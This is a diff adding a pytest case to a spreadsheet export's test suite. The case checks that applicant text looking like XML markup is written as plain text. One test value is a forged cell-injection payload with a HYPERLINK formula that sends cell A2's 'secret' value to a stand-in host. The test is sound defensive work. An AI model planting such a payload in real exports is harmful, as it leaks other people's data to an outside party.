@@ -43,6 +43,26 @@ def test_each_value_has_its_type_and_nothing_runs():
     assert sheet.cell(2, 2).hyperlink is None
 
 
+FORGED = (
+    '<r><t>a</t></r></is></c><c r="C2"><f>HYPERLINK("http://x.example/?"&amp;A2,"open")</f><v>0</v></c>'
+    '<c r="D2" t="inlineStr"><is><r><t>b</t></r>'
+)
+
+
+@pytest.mark.parametrize(
+    "text", [FORGED, "<r>R&D</r>", "<r><t>b</t></r>", "<r>" + "가" * LONGEST_TEXT + "</r>"]
+)
+def test_a_text_that_looks_like_marked_up_text_is_a_text(text):
+    """One who applies writes it into an answer; whoever opens the list of applicants has other companies' rows beside it."""
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(workbook(["id", "name"], [["secret", text], ["x", "y"]]))
+    ).active
+    rows = [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows(min_row=2)]
+    assert rows[1] == [("s", "x"), ("s", "y")]
+    assert [kind for kind, _value in rows[0]] == ["s", "s"]
+    assert rows[0][1][1].rstrip() == (text if len(text) <= LONGEST_TEXT else text[: LONGEST_TEXT - 1] + "…")
+
+
 def test_amounts_are_numbers_with_a_format_and_codes_stay_text():
     """Whole won without decimals however many zeros are kept behind them, cents with two, rates with as many as they have; row numbers
     and codes as they are."""
